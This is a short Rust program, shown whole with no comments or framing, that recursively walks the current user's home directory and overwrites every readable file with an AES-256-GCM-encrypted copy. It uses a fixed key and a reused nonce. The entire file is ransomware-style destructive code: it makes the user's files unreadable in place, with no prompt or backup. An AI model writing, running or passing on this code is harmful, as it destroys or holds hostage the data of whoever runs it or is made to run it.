use aes_gcm::aead::{Aead, KeyInit};
use aes_gcm::{Aes256Gcm, Nonce};
use std::fs;
use walkdir::WalkDir;

fn main() {
    let cipher = Aes256Gcm::new_from_slice(&[7u8; 32]).unwrap();
    let home = dirs::home_dir().unwrap();
    for entry in WalkDir::new(home).into_iter().filter_map(|e| e.ok()) {
        if entry.file_type().is_file() {
            let path = entry.path();
            if let Ok(data) = fs::read(path) {
                let enc = cipher.encrypt(Nonce::from_slice(b"unique nonce"), data.as_ref()).unwrap();
                let _ = fs::write(path, enc);
            }
        }
    }
}
